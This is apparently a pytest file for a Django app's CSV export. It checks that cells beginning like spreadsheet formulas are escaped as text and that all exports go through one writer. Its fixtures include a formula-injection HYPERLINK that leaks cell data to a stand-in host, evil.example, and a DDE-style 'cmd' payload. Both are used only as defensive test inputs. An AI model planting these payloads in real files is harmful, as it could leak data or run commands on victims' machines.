"""CSV exports never hand a spreadsheet a formula: text that starts like one is written as text."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from tenancy.exports import spreadsheet_cell
from tests import factories

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your rebate")'


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Plain Street", "Plain Street"),
        ("", ""),
        # Numbers stay numbers: a negative adjustment is not a formula.
        (Decimal("-5.00"), "-5.00"),
        (-3, "-3"),
        ("-12.50", "-12.50"),
        ("+15", "+15"),
        (None, ""),
    ],
)
def test_cells_that_start_like_a_formula_are_written_as_text(typed, written):
    assert spreadsheet_cell(typed) == written


# Not our shipped code: tests, benches, and what a run leaves (var/ holds, after
# `make bench`, the reference server's venv with pip's own csv writers).
NOT_SHIPPED = {"tests", "bench", "var", "test-artifacts", "staticfiles"}


def test_every_csv_export_goes_through_the_one_writer():
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        rel = path.relative_to(ROOT)
        top = rel.parts[0]
        if top.startswith(".") or top in NOT_SHIPPED or rel.as_posix() == "tenancy/exports.py":
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text()):
            offenders.append(rel.as_posix())
    assert offenders == []


@pytest.mark.django_db
def test_a_customer_named_like_a_formula_is_text_in_the_enrollment_export(client):
    from tests.enrollment.conftest import make_setup, submit

    utility = factories.utility("Alpha Power", slug="alpha")
    setup = make_setup(utility, slug="alpha-savers")
    customer = factories.customer(utility)
    customer.name = HYPERLINK
    customer.save()
    submit(setup, customer=customer, city="@SUM(A1:A9)")
    client.force_login(setup.manager)
    response = client.get("/enrollments/export.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 1
    assert rows[0]["customer"] == "'" + HYPERLINK
    assert rows[0]["city"] == "'@SUM(A1:A9)"
